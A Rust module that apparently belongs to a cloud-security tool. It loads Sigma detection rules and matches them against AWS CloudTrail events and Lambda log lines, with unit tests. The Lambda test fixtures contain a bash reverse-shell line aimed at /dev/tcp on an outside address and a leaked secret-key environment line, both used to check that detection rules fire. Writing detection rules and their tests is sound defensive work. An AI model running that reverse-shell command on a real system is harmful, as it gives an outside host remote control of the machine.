//! Sigma rules (YAML) over CloudTrail records and Lambda log lines, evaluated with the `sigma-rust` crate
//! (Sigma specification 2.0: selections, every field modifier but `expand`, wildcards, conditions with
//! `and` / `or` / `not` / `1 of` / `all of`).
//!
//! coldtrail ships its own rules (`detect/rules/sigma/`, compiled into the binary); a directory of more
//! rules (SigmaHQ's `rules/cloud/aws/cloudtrail`, your own) is loaded with `SigmaRules::load_dir`. A rule
//! applies to CloudTrail when its log source is `product: aws, service: cloudtrail`, and to Lambda log
//! lines (fields `message`, `level`, `function_name`, `log_stream`, `request_id`) when it is
//! `product: aws, service: lambda`. Rules for other log sources are counted and skipped.

use std::collections::HashSet;
use std::path::Path;

use serde_json::Value;

use crate::{DetectError, Severity};

/// What a rule reads.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Target {
    CloudTrail,
    LambdaLogs,
}

/// One loaded rule.
pub struct SigmaRule {
    pub id: String,
    pub title: String,
    pub description: Option<String>,
    pub severity: Severity,
    /// ATT&CK technique ids from the rule's `attack.tNNNN` tags.
    pub attack: Vec<String>,
    pub source: String,
    pub target: Target,
    rule: sigma_rust::Rule,
}

impl std::fmt::Debug for SigmaRule {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("SigmaRule")
            .field("id", &self.id)
            .field("title", &self.title)
            .field("source", &self.source)
            .finish()
    }
}

/// The rules shipped with coldtrail.
const SHIPPED: &[(&str, &str)] = &[
    ("aws_config_recording_disabled.yml", include_str!("../../rules/sigma/aws_config_recording_disabled.yml")),
    (
        "aws_ec2_instance_connect_key_pushed.yml",
        include_str!("../../rules/sigma/aws_ec2_instance_connect_key_pushed.yml"),
    ),
    ("aws_ec2_user_data_read.yml", include_str!("../../rules/sigma/aws_ec2_user_data_read.yml")),
    ("aws_guardduty_disruption.yml", include_str!("../../rules/sigma/aws_guardduty_disruption.yml")),
    ("aws_iam_admin_policy_attached.yml", include_str!("../../rules/sigma/aws_iam_admin_policy_attached.yml")),
    ("aws_iam_login_profile_changed.yml", include_str!("../../rules/sigma/aws_iam_login_profile_changed.yml")),
    (
        "aws_lambda_log_credentials_exposed.yml",
        include_str!("../../rules/sigma/aws_lambda_log_credentials_exposed.yml"),
    ),
    ("aws_lambda_log_reverse_shell.yml", include_str!("../../rules/sigma/aws_lambda_log_reverse_shell.yml")),
    ("aws_organizations_leave.yml", include_str!("../../rules/sigma/aws_organizations_leave.yml")),
    ("aws_rolesanywhere_trust_anchor.yml", include_str!("../../rules/sigma/aws_rolesanywhere_trust_anchor.yml")),
    ("aws_route53_query_logging_deleted.yml", include_str!("../../rules/sigma/aws_route53_query_logging_deleted.yml")),
    ("aws_secrets_batch_retrieved.yml", include_str!("../../rules/sigma/aws_secrets_batch_retrieved.yml")),
    ("aws_sts_federation_token.yml", include_str!("../../rules/sigma/aws_sts_federation_token.yml")),
    ("aws_vpc_flow_logs_deleted.yml", include_str!("../../rules/sigma/aws_vpc_flow_logs_deleted.yml")),
];

/// A set of rules.
#[derive(Debug, Default)]
pub struct SigmaRules {
    rules: Vec<SigmaRule>,
    /// The top-level fields of a record that the rules of each target read (`Target as usize`).
    reads: [Reads; 2],
    /// Rules skipped because their log source is neither CloudTrail nor Lambda logs.
    pub skipped: Vec<String>,
}

/// The rule's `level` (sigma-rust does not export its type, only its `Debug` name).
fn severity(level: Option<&impl std::fmt::Debug>) -> Severity {
    match level.map(|l| format!("{l:?}")).as_deref() {
        Some("Critical") => Severity::Critical,
        Some("High") => Severity::High,
        Some("Medium") => Severity::Medium,
        _ => Severity::Low,
    }
}

/// `attack.t1562.008` is `T1562.008`; tactic tags (`attack.defense-evasion`) are not technique ids.
fn techniques(tags: &[String]) -> Vec<String> {
    tags.iter()
        .filter_map(|t| t.strip_prefix("attack.t"))
        .filter(|t| t.chars().next().is_some_and(|c| c.is_ascii_digit()))
        .map(|t| format!("T{}", t.to_ascii_uppercase()))
        .collect()
}

/// Top-level fields of a record that some rules read.
#[derive(Debug, Default)]
struct Reads {
    /// A rule searches every value (keywords), or names a field this could not tell.
    all: bool,
    fields: HashSet<String>,
}

impl Reads {
    /// Adds the fields a rule's `detection` names. sigma-rust's `Event::get` looks a field `a.b.c` up
    /// as a top-level key `a.b.c`, else inside `a`: both are kept.
    fn add(&mut self, yaml: &str) {
        let rule: Result<serde_norway::Value, _> = serde_norway::from_str(yaml);
        let Some(detection) = rule.ok().and_then(|r| r.get("detection").and_then(|d| d.as_mapping()).cloned()) else {
            self.all = true;
            return;
        };
        for (name, selection) in &detection {
            if matches!(name.as_str(), Some("condition" | "timeframe")) {
                continue;
            }
            let maps: Vec<&serde_norway::Value> = match selection {
                serde_norway::Value::Sequence(items) => items.iter().collect(),
                other => vec![other],
            };
            for map in maps {
                let Some(map) = map.as_mapping() else {
                    // Keywords: matched against every value of the record.
                    self.all = true;
                    continue;
                };
                for key in map.keys() {
                    match key.as_str().map(|k| k.split('|').next().unwrap_or_default()) {
                        Some(field) if !field.is_empty() => {
                            self.fields.insert(field.to_string());
                            self.fields.insert(field.split('.').next().unwrap_or(field).to_string());
                        }
                        _ => self.all = true,
                    }
                }
            }
        }
    }

    fn read(&self, key: &str) -> bool {
        self.all || self.fields.contains(key)
    }
}

impl SigmaRules {
    /// The rules shipped with coldtrail.
    pub fn shipped() -> SigmaRules {
        let mut rules = SigmaRules::default();
        for (name, text) in SHIPPED {
            rules.add(name, text).expect("the shipped Sigma rules parse (checked by tests)");
        }
        rules
    }

    /// Parses one rule and adds it.
    pub fn add(&mut self, source: &str, yaml: &str) -> Result<(), DetectError> {
        let rule = sigma_rust::rule_from_yaml(yaml)
            .map_err(|e| DetectError::Rule { file: source.to_string(), reason: e.to_string() })?;
        let product = rule.logsource.product.as_deref().unwrap_or_default().to_ascii_lowercase();
        let service = rule.logsource.service.as_deref().unwrap_or_default().to_ascii_lowercase();
        let target = match (product.as_str(), service.as_str()) {
            ("aws", "cloudtrail") => Target::CloudTrail,
            ("aws", "lambda") => Target::LambdaLogs,
            _ => {
                self.skipped.push(source.to_string());
                return Ok(());
            }
        };
        self.reads[target as usize].add(yaml);
        let id =
            rule.id.clone().unwrap_or_else(|| source.trim_end_matches(".yml").trim_end_matches(".yaml").to_string());
        self.rules.push(SigmaRule {
            id,
            title: rule.title.clone(),
            description: rule.description.clone(),
            severity: severity(rule.level.as_ref()),
            attack: techniques(rule.tags.as_deref().unwrap_or_default()),
            source: source.to_string(),
            target,
            rule,
        });
        Ok(())
    }

    /// Adds every `*.yml` / `*.yaml` file under `dir` (recursively). Every file that does not parse is
    /// reported, all at once; the others are still added.
    pub fn load_dir(&mut self, dir: &Path) -> Result<usize, DetectError> {
        let mut files = Vec::new();
        collect(dir, &mut files)
            .map_err(|e| DetectError::Rule { file: dir.display().to_string(), reason: e.to_string() })?;
        files.sort();
        let before = self.rules.len();
        let mut problems = Vec::new();
        for file in files {
            let name = file.display().to_string();
            match std::fs::read_to_string(&file) {
                Ok(text) => {
                    if let Err(e) = self.add(&name, &text) {
                        problems.push(e.to_string());
                    }
                }
                Err(e) => problems.push(format!("{name}: {e}")),
            }
        }
        if problems.is_empty() {
            Ok(self.rules.len() - before)
        } else {
            Err(DetectError::Rule { file: dir.display().to_string(), reason: problems.join("; ") })
        }
    }

    pub fn len(&self) -> usize {
        self.rules.len()
    }

    pub fn is_empty(&self) -> bool {
        self.rules.is_empty()
    }

    pub fn rules(&self) -> &[SigmaRule] {
        &self.rules
    }

    /// The rules for `target` that match `record`.
    pub fn matching(&self, target: Target, record: Value) -> Vec<&SigmaRule> {
        self.matching_fields(target, |_| record)
    }

    /// `matching`, for a record built by `record` with only the top-level fields that its argument
    /// says some rule reads (the others cannot change a match), and only when a rule is for `target`.
    pub fn matching_fields(
        &self,
        target: Target,
        record: impl FnOnce(&dyn Fn(&str) -> bool) -> Value,
    ) -> Vec<&SigmaRule> {
        if !self.rules.iter().any(|r| r.target == target) {
            return Vec::new();
        }
        let reads = &self.reads[target as usize];
        let Ok(event) = sigma_rust::Event::try_from(record(&|key| reads.read(key))) else { return Vec::new() };
        self.rules.iter().filter(|r| r.target == target && r.rule.is_match(&event)).collect()
    }
}

fn collect(dir: &Path, out: &mut Vec<std::path::PathBuf>) -> std::io::Result<()> {
    for entry in std::fs::read_dir(dir)? {
        let path = entry?.path();
        if path.is_dir() {
            collect(&path, out)?;
        } else if path.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            out.push(path);
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn technique_tags_become_attack_ids() {
        let tags =
            vec!["attack.defense-evasion".to_string(), "attack.t1562.008".to_string(), "attack.t1098".to_string()];
        assert_eq!(techniques(&tags), vec!["T1562.008", "T1098"]);
    }

    fn event(source: &str, name: &str, request: Value, principal_type: &str) -> crate::security::rows::CloudTrailEvent {
        crate::security::rows::CloudTrailEvent {
            ts_us: 1_700_000_000_000_000,
            event_source: source.into(),
            event_name: name.into(),
            region: Some("us-east-1".into()),
            source_ip: Some("203.0.113.9".into()),
            user_agent: Some("evil.example/1.0".into()),
            principal_arn: Some("arn:aws:sts::1:assumed-role/R/s".into()),
            principal_type: Some(principal_type.into()),
            access_key_id: Some("ASIA0".into()),
            session_name: None,
            account: Some("1".into()),
            error_code: None,
            error_message: None,
            request,
            response: serde_json::json!({"x": 1}),
            resources: Value::Null,
            read_only: Some(false),
            event_id: Some("e1".into()),
            event_type: Some("AwsApiCall".into()),
            recipient_account: Some("1".into()),
        }
    }

    /// Rules see a record with only the top-level fields some rule of theirs reads (most of a record's
    /// allocations were for fields no rule reads), and match it as the whole record: fields named
    /// nested (`userIdentity.type`), with modifiers, and keywords, which read every value.
    #[test]
    fn rules_match_a_record_of_the_fields_they_read_as_the_whole_record() {
        let nested = "title: root\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  selection:\n    userIdentity.type: Root\n    eventName|startswith: Delete\n  condition: selection\n";
        let keywords = "title: kw\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n  words:\n    - 'evil.example/1.0'\n  condition: words\n";
        let events = [
            event(
                "iam.amazonaws.com",
                "AttachRolePolicy",
                serde_json::json!({"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
                "AssumedRole",
            ),
            event(
                "ec2.amazonaws.com",
                "DescribeInstanceAttribute",
                serde_json::json!({"attribute": "userData"}),
                "AssumedRole",
            ),
            event("s3.amazonaws.com", "DeleteBucket", Value::Null, "Root"),
            event("s3.amazonaws.com", "DeleteBucket", Value::Null, "IAMUser"),
        ];
        let ids = |rules: Vec<&SigmaRule>| rules.into_iter().map(|r| r.id.clone()).collect::<Vec<_>>();
        let mut rules = SigmaRules::shipped();
        let reads = &rules.reads[Target::CloudTrail as usize];
        assert!(
            !reads.all
                && reads.read("requestParameters")
                && !reads.read("userIdentity")
                && !reads.read("responseElements")
        );
        rules.add("nested.yml", nested).unwrap();
        assert!(rules.reads[Target::CloudTrail as usize].read("userIdentity"));
        let mut matched = Vec::new();
        for event in &events {
            let pruned = ids(rules.matching_fields(Target::CloudTrail, |keep| event.record_of(keep)));
            assert_eq!(pruned, ids(rules.matching(Target::CloudTrail, event.record())), "{}", event.event_name);
            matched.push(pruned.len());
        }
        assert_eq!(matched, [1, 1, 1, 0]);
        rules.add("keywords.yml", keywords).unwrap();
        assert!(rules.reads[Target::CloudTrail as usize].all);
        for event in &events {
            let pruned = ids(rules.matching_fields(Target::CloudTrail, |keep| event.record_of(keep)));
            assert!(pruned.contains(&"keywords".to_string()), "{pruned:?}");
        }
    }

    /// Log lines too: the shipped rules read the message alone, a rule on `level` adds it, and a keyword
    /// rule reads every field; each matches a pruned record as it matches the whole one.
    #[test]
    fn lambda_log_rules_match_a_record_of_the_fields_they_read_as_the_whole_record() {
        use store::tables::{Borrowed, LogRow};
        let level = "title: lvl\nlogsource: {product: aws, service: lambda}\ndetection:\n  selection:\n    level: ERROR\n    message|contains: token\n  condition: selection\n";
        let keywords = "title: kw\nlogsource: {product: aws, service: lambda}\ndetection:\n  words:\n    - 'billing-export'\n  condition: words\n";
        let messages = [
            ("INFO", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
            ("INFO", "env: AWS_SECRET_ACCESS_KEY=abc"),
            ("ERROR", "refresh token rejected"),
            ("INFO", "refresh token rejected"),
            ("INFO", "processed order 7"),
        ];
        let rows: Vec<LogRow<Borrowed>> = messages
            .iter()
            .map(|(level, message)| LogRow {
                ts: 1_700_000_000_000_000,
                function_name: Some("billing-export"),
                log_stream: Some("2026/11/29/[$LATEST]abc"),
                request_id: Some("r-1"),
                level: Some(*level),
                message: *message,
                ..LogRow::default()
            })
            .collect();
        let ids = |rules: Vec<&SigmaRule>| rules.into_iter().map(|r| r.id.clone()).collect::<Vec<_>>();
        let matched = |rules: &SigmaRules| {
            rows.iter()
                .map(|row| {
                    let pruned = ids(rules
                        .matching_fields(Target::LambdaLogs, |keep| crate::security::rows::log_record_of(row, keep)));
                    assert_eq!(
                        pruned,
                        ids(rules.matching(Target::LambdaLogs, crate::security::rows::log_record(row))),
                        "{}",
                        row.message
                    );
                    pruned.len()
                })
                .collect::<Vec<_>>()
        };
        let mut rules = SigmaRules::shipped();
        let reads = &rules.reads[Target::LambdaLogs as usize];
        assert!(!reads.all && reads.read("message") && !reads.read("level") && !reads.read("function_name"));
        assert_eq!(matched(&rules), [1, 1, 0, 0, 0]);
        rules.add("level.yml", level).unwrap();
        assert!(rules.reads[Target::LambdaLogs as usize].read("level"));
        assert_eq!(matched(&rules), [1, 1, 1, 0, 0]);
        rules.add("keywords.yml", keywords).unwrap();
        assert!(rules.reads[Target::LambdaLogs as usize].all);
        assert_eq!(matched(&rules), [2, 2, 2, 1, 1]);
    }

    #[test]
    fn broken_rules_are_all_reported() {
        let dir = std::env::temp_dir().join(format!("coldtrail-sigma-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("a.yml"), "title: [unclosed").unwrap();
        std::fs::write(dir.join("b.yml"), "title: no detection\nlogsource: {product: aws, service: cloudtrail}\n")
            .unwrap();
        std::fs::write(dir.join("c.yml"), SHIPPED[0].1).unwrap();
        let mut rules = SigmaRules::default();
        let error = rules.load_dir(&dir).unwrap_err().to_string();
        assert!(error.contains("a.yml") && error.contains("b.yml"), "{error}");
        assert_eq!(rules.len(), 1);
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
